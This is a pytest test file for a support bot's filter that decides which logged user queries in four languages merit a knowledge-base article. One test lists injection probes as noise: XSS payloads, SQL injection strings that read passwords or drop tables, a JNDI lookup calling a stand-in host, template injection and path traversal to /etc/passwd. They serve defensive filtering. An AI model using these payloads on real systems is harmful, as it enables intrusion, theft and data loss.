"""Which logged queries the KB-gap report lists: real questions in the four languages, however short,
and not probes, filler, keyboard mashing or text without letters."""
import pytest

from bot.kb.noise import is_article_worthy


@pytest.mark.parametrize("question", [
    "refund?", "Refund", "vrácení peněz", "vraceni penez", "החזר כספי", "استرداد", "faktura", "חשבונית?",
    "How do I export my data?", "Jak exportovat data?", "איך לייצא נתונים?", "كيف أصدر بياناتي؟",
    "I don't know how to reset my password", "nevím, jak zrušit objednávku", "לא יודע איך לבטל הזמנה",
    "مش عارف أغير كلمة السر", "no refund yet?", "nic nefunguje", "לא עובד",
    "How do I select a size from the menu?", "Can I pay by card or cash?", "Is 100% of the price refundable?",
    "I <3 your shop, do you ship to Brno?", "Plus price; they combine with promo codes?",
    "were my items sent?", "refund 😡", "Vrácení peněz!!!", "Why does my receipt say <date>?",
])
def test_a_real_question_is_article_worthy_however_short(question):
    assert is_article_worthy(question)


@pytest.mark.parametrize("probe", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "<b>refund</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)",
    "javascript:alert(document.cookie)", '" onmouseover="alert(1)', "<!-- refund -->",
    "' OR 1=1--", "' or 'a'='a", "1 OR 1=1", "admin'--", "1; DROP TABLE users", "x' UNION SELECT password FROM users",
    "1' AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'", "refund' /*",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
])
def test_markup_script_and_injection_probes_are_noise(probe):
    assert not is_article_worthy(probe)


@pytest.mark.parametrize("text", ["", "   ", "?", "??!", "...", "123", "12/03", "😀😀", "🤷", "👍", "a", "x?", "٣٤٥"])
def test_text_with_fewer_than_two_letters_is_noise(text):
    assert not is_article_worthy(text)


@pytest.mark.parametrize("filler", [
    "dunno", "idk", "IDK!", "I don't know", "i dont know", "no idea", "nevermind", "never mind", "test", "testing 123",
    "ok", "ok thanks", "Yes", "no", "lol", "idk lol", "null",
    "לא יודע", "לא יודעת", "אין לי מושג", "לא משנה", "בדיקה", "חחחח", "תודה",
    "لا أعرف", "لا اعرف", "مش عارف", "مش عارفة", "لا أدري", "ههههه", "شكراً",
    "nevím", "nevim", "Nevím.", "nic", "netuším", "to je jedno", "díky",
])
def test_filler_in_every_language_is_noise(filler):
    assert not is_article_worthy(filler)


@pytest.mark.parametrize("mashing", [
    "asdf", "asdfasdf", "fdsa", "qwerty", "sdfsdf", "lkjlkj", "zxcvbnm", "qwertz", "yxcv", "ěščř",
    "aaaaa", "hahaha", "jjjjjj", "asdf hjkl", "שדגכ", "ףךלח", "ضصثق", "شسيب",
])
def test_keyboard_mashing_is_noise(mashing):
    assert not is_article_worthy(mashing)


def test_only_the_part_the_search_read_is_judged():
    assert not is_article_worthy("?" * 1000 + " How do I export my data?")
    assert is_article_worthy("How do I export my data? " + "?" * 5000)
